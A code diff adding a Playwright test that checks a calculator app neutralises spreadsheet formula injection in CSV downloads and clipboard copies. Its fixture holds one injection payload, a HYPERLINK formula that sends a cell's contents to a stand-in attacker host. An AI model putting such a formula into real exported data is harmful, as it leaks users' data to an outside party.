@@ -58,13 +58,38 @@ const ROWS = [
   '3,7.125,2026-01-03,n3,false,',
 ];
 
+// A visitor's text that a spreadsheet would run as a formula (issue 25), beside a negative
+// number that must stay a number.
+const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
+const formulaDoc = () =>
+  calcDoc({
+    name: 'Notes',
+    script:
+      "'use strict';\n\nreturn { rows: [{ Note: inputs.note, Delta: -5 }, { Note: 'plain', Delta: 2 }] };\n",
+    inputs: [{ id: 1, name: 'note', type: 'string' }],
+    outputs: [
+      {
+        id: 1,
+        name: 'rows',
+        type: 'table',
+        metaOutputs: [
+          { id: 1, name: 'Note', type: 'value' },
+          { id: 2, name: 'Delta', type: 'value' },
+        ],
+      },
+    ],
+    defaults: { '1': HYPERLINK },
+  });
+
 let author: APIRequestContext;
 let calcId: string;
+let formulaId: string;
 
 test.beforeAll(async ({ playwright }) => {
   author = await playwright.request.newContext({ baseURL: baseUrl() });
   await signUpViaApi(author, newAccount('exporter'));
   calcId = await saveCalculator(author, scheduleDoc());
+  formulaId = await saveCalculator(author, formulaDoc());
 });
 
 test.afterAll(async () => {
@@ -116,6 +141,30 @@ test('Copy puts tab-separated raw values on the clipboard and says so', async ({
       '3\t7.125\t2026-01-03\tn3\tfalse\t',
     ].join('\n'),
   );
+});
+
+test('a text cell that starts like a formula gets a leading quote in the CSV and the copy', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseUrl() });
+  await page.goto(`/calc/${formulaId}`);
+  const table = page.locator('[data-output="rows"]');
+  // The page shows the visitor's text as it is; only the export neutralises it.
+  await expect(table.getByRole('cell', { name: HYPERLINK })).toBeVisible();
+
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    table.getByRole('button', { name: 'Download CSV' }).click(),
+  ]);
+  const csv = readFileSync(await download.path(), 'utf8');
+  const quoted = `"'${HYPERLINK.replace(/"/g, '""')}"`;
+  expect(csv).toBe(`\uFEFFNote,Delta\r\n${quoted},-5\r\nplain,2\r\n`);
+
+  await table.getByRole('button', { name: 'Copy' }).click();
+  await expect(table.getByText('Copied', { exact: true })).toBeVisible();
+  const text = await page.evaluate(() => navigator.clipboard.readText());
+  expect(text).toBe(`Note\tDelta\n'${HYPERLINK}\t-5\nplain\t2`);
 });
 
 test('a refused clipboard is said plainly', async ({ page }) => {
